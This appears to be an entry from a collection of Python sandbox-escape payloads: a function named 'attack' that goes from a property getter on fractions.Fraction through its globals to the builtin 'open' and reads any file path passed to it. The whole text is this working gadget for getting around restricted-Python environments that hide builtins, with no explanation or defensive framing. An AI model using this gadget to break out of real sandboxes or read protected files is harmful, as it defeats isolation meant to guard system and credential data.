# A property gives its function back.
# after: read
# source: own
import fractions
def attack(path, **_):
    return {"text": fractions.Fraction.numerator.fget.__globals__["__builtins__"]["open"](path).read()}
